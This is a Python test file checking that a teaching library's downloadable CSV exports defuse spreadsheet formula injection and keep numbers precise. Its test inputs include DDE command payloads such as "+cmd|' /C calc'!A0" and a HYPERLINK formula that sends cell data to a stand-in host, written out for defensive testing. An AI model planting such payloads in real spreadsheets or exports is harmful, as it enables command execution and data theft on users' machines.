"""The files a reader downloads: any spreadsheet opens them, none runs what is in them, and no digit is lost."""

import csv
import io
import math
import re
from datetime import date
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from basislib.pages import ctd_switching
from basislib.sheets import csv_bytes
from basislib.widgets.answers import book_csv
from basislib.widgets.claims_box import ClaimsBox
from basislib.widgets.controls import Entry, haircut
from basislib.widgets.explorer import Explorer, Reading
from basislib.widgets.lesson import Lesson
from basislib.widgets.monte_carlo_box import MonteCarloBox
from basislib.widgets.questions import Choose, Numeric, Option
from basislib.widgets.quotes_box import QuotesBox
from basislib.widgets.section import Section

EVIL = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\x00=1+1", "\x1f@a",
        "＝1+1", "＋1", "－1", "＠a", "+cmd|' /C calc'!A0", "-cmd|'/C calc'!A0",
        '=HYPERLINK("http://a.b/?x="&A1,"click")',
        "--1", "+-1", "=", "-", "-A1", "+A1", "-inf", "+nan", "-1e", "-1_000", "a;=1+1", "a; -A1", 'a;"=1+1', '"=1+1',
        "a\n=1+1", "a\r\n@a", "a\t=1", ";=1")  # fmt: skip
HONEST = ("-3.5", "+5", "-0.25", "-3,5", "-1,234.5", "-1e-5", "+1E5", "-3.5%", "-3.5 %", "-.5", "12", "1.5", "3-4",
          "a=b", "2 - 1", "A+", "x@y.z", "102-17+", "a; b", "−3 bp", "", "'", "“=”", "王小明", "Zoë")  # fmt: skip


def cells(made):
    """Return the rows of a file as a reader with commas sees them."""
    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), strict=True))


def one(text):
    """Return what becomes of one text in the middle of a row."""
    (_, row) = cells(csv_bytes("abc", [("x", text, "y")]))
    assert row[0] == "x" and row[2] == "y"
    return row[1]


def is_run(cell):
    """Return whether a spreadsheet would take a cell for a formula."""
    cell = re.sub(r'^[\s"\x00-\x1f]+', "", cell).removesuffix('"').rstrip()
    number = re.match(r"[+-][\d.,]+(e[+-]?\d+)? ?%?(,|$)", cell, re.ASCII | re.IGNORECASE)  # or a row that begins so
    return cell[:1] in tuple("=+-@＝＋－＠") and not number


def runs(made):
    """Return what a spreadsheet would run, if commas part the cells, and if semicolons or tabs do, quotes or not."""
    text = made.decode("utf-8-sig")
    parts = [cell for row in cells(made) for cell in row]
    parts += re.split(r"[;\t\r\n]", text)
    return [part for part in parts if is_run(part)]


@pytest.mark.parametrize("text", EVIL)
def test_no_text_is_run(text):
    assert not runs(csv_bytes("abc", [(text, text, text), ("x", text, "y")]))


@pytest.mark.parametrize("text", EVIL)
def test_the_tests_own_eyes_are_open(text):
    out = io.StringIO(newline="")
    csv.writer(out).writerows([("x", text, "y"), (text,)])
    assert runs(out.getvalue().encode())


@pytest.mark.parametrize("text", HONEST)
def test_what_is_honest_stays_as_it_is(text):
    assert one(text) == text


@given(st.lists(st.text() | st.text(st.sampled_from("=+-@;,\" \t\r\n1a'")), min_size=1, max_size=4))
def test_whatever_was_typed_is_not_run_and_keeps_its_place(texts):
    made = csv_bytes(["h"] * len(texts), [texts])
    assert not runs(made)
    assert len(cells(made)) == 2 and len(cells(made)[1]) == len(texts)
    for typed, cell in zip(texts, cells(made)[1], strict=True):
        assert re.sub(r"['\s\x00-\x1f\x7f-\x9f]", "", cell) == re.sub(r"['\s\x00-\x1f\x7f-\x9f]", "", typed)


def test_a_broken_letter_costs_no_file():
    assert one("a\ud800b") == "a?b"


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_comes_back_to_twelve_digits(number):
    cell = cells(csv_bytes("a", [(number,)]))[1:]
    assert math.isclose(float(cell[0][0]), number, rel_tol=5.1e-12)
    assert len(re.sub(r"e.*|\D|^0+", "", cell[0][0].lstrip("-0."))) <= 12


@pytest.mark.parametrize(("value", "cell"), [
    (11.879999999999999, "11.88"), (0.1 + 0.2, "0.3"), (-3.5, "-3.5"), (-0.0, "0"), (1e-9, "1e-09"), (2.0, "2"),
    (np.float64(-0.30000000000000004), "-0.3"), (np.float32(0.5), "0.5"), (-7, "-7"), (np.int64(-7), "-7"),
    (10**15, "1000000000000000"), (True, "True"), (np.bool_(False), "False"), (date(2025, 4, 1), "2025-04-01"),
    (np.str_("=1"), "'=1"), (None, ""), (math.nan, ""), (np.float64("nan"), ""), (pd.NaT, ""),
])  # fmt: skip
def test_what_stands_in_a_cell(value, cell):
    assert cells(csv_bytes("ab", [(value, "x")]))[1] == [cell, "x"]


def test_a_spreadsheet_knows_the_letters_and_the_line_ends():
    made = csv_bytes(["a", "b"], [("é", 1.5)], {"way": "-", "rate": 0.1 + 0.2})
    assert made == "\ufeffa,b,setting_way,setting_rate\r\né,1.5,'-,0.3\r\n".encode()


# --- what readers can put into a page


CHART = SimpleNamespace(
    frame=lambda figure, view: figure.add_axes((0, 0, 1, 1)), draw=lambda figure, result, ghost: None
)
CHOICE = Choose("Who pays?", (Option("a", "The long", "Yes."), Option("b", "The short", "No.")), "a", "Look.", "Long.")
NUMBER = Numeric("What is **half** of *one*?\n\nIn **%**.", 0.5, "%", 0.001, "Divide.", "0.5.", ())


def explorer():
    """Return an explorer that takes whatever is typed for its words."""
    words = Entry("words", "Words", "", "none", "Any words.", "market", parse=str)
    return Explorer(
        "lamp",
        controls=[words, haircut()],
        compute=lambda words, haircut: words,
        chart=CHART,
        describe=lambda result: Reading("Done."),
        table=lambda result: pd.DataFrame({"said": [result], "x": [0.1 + 0.2]}),
    )


def page(parts=()):
    sections = [Section(explorer, asks=(1, 2)), *(Section(part, heading="More") for part in parts)]
    made = Lesson("corner", guess=CHOICE, questions=lambda rng: [NUMBER, CHOICE], sections=sections, query="")
    made.build()
    return made


@pytest.mark.parametrize("text", EVIL)
def test_a_setting_is_not_run(text):
    shown = explorer()
    shown.set(words=text)
    assert not runs(shown.csv())
    shown = explorer()
    shown.restore({"words": text})
    assert not runs(shown.csv()) and "0.3" in cells(shown.csv())[1]


@pytest.mark.parametrize("text", EVIL)
def test_an_answer_and_a_name_are_not_run(text):
    shown = page()
    shown.exercise_list[0].box.value = text
    shown.exercise_list[0].check()
    shown.answers.keep("q9", "Why?", text, "correct")
    assert not runs(book_csv(shown.answers, {}, text)[0])


def test_nothing_of_pasted_quotes_is_run():
    shown = ctd_switching.page("")
    shown.prediction.open()
    box = next(placed.part for placed in shown.placed if isinstance(placed.part, QuotesBox))
    box.fill()
    first, *others = box.text.value.splitlines()
    box.text.value = "\n".join([f"{first},=name", *(f"{line},{EVIL[n % len(EVIL)]!r}" for n, line in enumerate(others)),
                                "=1+1,@SUM(1),-2+3,=4,=5,=6"])  # fmt: skip
    box.read()
    box.show()
    assert "1 cell cannot be used" not in box.said.value and "cannot be used" in box.said.value
    with_baskets = [explorer for explorer in shown.explorers.values() if "basket" in explorer.values()]
    assert len(with_baskets) > 4
    for explorer in with_baskets:
        assert explorer.values()["basket"] == ctd_switching.explorers.OWN and not runs(explorer.csv())


def test_the_question_has_no_marks_of_emphasis():
    shown = page()
    shown.exercise_list[0].box.value = "0.5"
    shown.exercise_list[0].check()
    header, row = cells(book_csv(shown.answers, {}, "Ann")[0])
    assert dict(zip(header, row, strict=True))["question"] == "What is half of one? In %."


def test_a_file_says_which_page_it_is_from():
    claims, draws = ClaimsBox({}, seed=1), MonteCarloBox({"none": ("no policy", ())})
    shown = page(parts=[claims, draws])
    lamp = shown.explorers["lamp"]
    shown.prediction.open()
    for kind in ("csv", "png"):
        lamp.buttons[kind].click()
        assert f'download="corner_lamp.{kind}"' in lamp.files.value
    claims.save()
    assert 'download="corner_claims.csv"' in claims.files.value
    assert draws.stem == "corner_monte_carlo"
